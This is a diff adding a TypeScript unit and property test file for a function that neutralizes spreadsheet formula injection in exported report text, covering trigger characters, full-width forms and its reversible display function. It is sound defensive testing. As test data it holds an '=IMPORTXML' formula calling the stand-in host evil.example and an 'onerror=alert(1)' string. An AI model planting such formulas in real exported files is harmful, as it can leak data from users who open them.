@@ -1,0 +1,100 @@
+import fc from 'fast-check';
+import { displayText, neutralizeText } from '../../../src/core/report/neutralizeText';
+
+const TRIGGERS = ['=', '+', '-', '@', "'", '\t', '\r', '\n', '\u0000', '\u2212'];
+
+describe('neutralizeText', () => {
+  it.each(TRIGGERS)('prefixes an apostrophe to text starting with %j', (trigger) => {
+    expect(neutralizeText(`${trigger}1+1`)).toBe(`'${trigger}1+1`);
+  });
+
+  it('prefixes formulas that reach out to the network', () => {
+    expect(neutralizeText('=IMPORTXML("http://evil.example","//a")')).toBe(`'=IMPORTXML("http://evil.example","//a")`);
+    expect(neutralizeText('=HYPERLINK("http://x","y")')).toBe(`'=HYPERLINK("http://x","y")`);
+  });
+
+  it('checks the NFKC form, so full-width ＝, ＋, －, ＠ count as triggers', () => {
+    expect(neutralizeText('＝1+1')).toBe("'＝1+1");
+    expect(neutralizeText('＋81')).toBe("'＋81");
+    expect(neutralizeText('－5')).toBe("'－5");
+    expect(neutralizeText('＠SUM(A1)')).toBe("'＠SUM(A1)");
+  });
+
+  it('keeps the original spelling after the apostrophe', () => {
+    expect(displayText(neutralizeText('＝ＳＵＭ(A1)'))).toBe('＝ＳＵＭ(A1)');
+  });
+
+  it('prefixes text a spreadsheet would read as a number, date or boolean', () => {
+    expect(neutralizeText('2025-04')).toBe("'2025-04");
+    expect(neutralizeText('1,200')).toBe("'1,200");
+    expect(neutralizeText('(未設定)')).toBe("'(未設定)");
+    expect(neutralizeText('¥1,200')).toBe("'¥1,200");
+    expect(neutralizeText('#N/A')).toBe("'#N/A");
+    expect(neutralizeText('TRUE')).toBe("'TRUE");
+    expect(neutralizeText('false')).toBe("'false");
+    expect(neutralizeText('Apr 2025')).toBe("'Apr 2025");
+  });
+
+  it('leaves ordinary labels unchanged', () => {
+    expect(neutralizeText('Google広告')).toBe('Google広告');
+    expect(neutralizeText('展示会')).toBe('展示会');
+    expect(neutralizeText('Webinar')).toBe('Webinar');
+    expect(neutralizeText('*')).toBe('*');
+    expect(neutralizeText('>0')).toBe('>0');
+    expect(neutralizeText('<img src=x onerror=alert(1)>')).toBe('<img src=x onerror=alert(1)>');
+  });
+
+  it('keeps every string recoverable: the display text is the input', () => {
+    fc.assert(fc.property(fc.string({ unit: 'binary' }), (text) => displayText(neutralizeText(text)) === text));
+  });
+
+  it('never returns text whose first visible character would start a formula, unless it is the marker', () => {
+    fc.assert(
+      fc.property(fc.string({ unit: 'binary' }), (text) => {
+        const written = neutralizeText(text);
+        if (written.startsWith("'")) return true;
+        const visible = written.normalize('NFKC').replace(/^\s+/, '');
+        return !/^[=+\-@'\u2212]/.test(visible) && !/^[\u0000-\u001f]/.test(written.normalize('NFKC'));
+      }),
+    );
+  });
+
+  describe('edge cases', () => {
+    it('returns the empty string unchanged', () => {
+      expect(neutralizeText('')).toBe('');
+    });
+
+    it('prefixes a formula behind leading spaces, including the full-width space', () => {
+      expect(neutralizeText('  =1+1')).toBe("'  =1+1");
+      expect(neutralizeText('\u3000=1+1')).toBe("'\u3000=1+1");
+    });
+
+    it('leaves the em dash used for null values unchanged', () => {
+      expect(neutralizeText('—')).toBe('—');
+    });
+
+    it('adds a second apostrophe to text that already starts with one, so the first stays visible', () => {
+      expect(neutralizeText("'90s")).toBe("''90s");
+    });
+  });
+});
+
+describe('displayText', () => {
+  it('drops one leading literal-text apostrophe', () => {
+    expect(displayText("'=1+1")).toBe('=1+1');
+  });
+
+  it('returns text without a marker unchanged', () => {
+    expect(displayText('リード')).toBe('リード');
+  });
+
+  describe('edge cases', () => {
+    it('drops only the first of two apostrophes', () => {
+      expect(displayText("''90s")).toBe("'90s");
+    });
+
+    it('returns the empty string unchanged', () => {
+      expect(displayText('')).toBe('');
+    });
+  });
+});
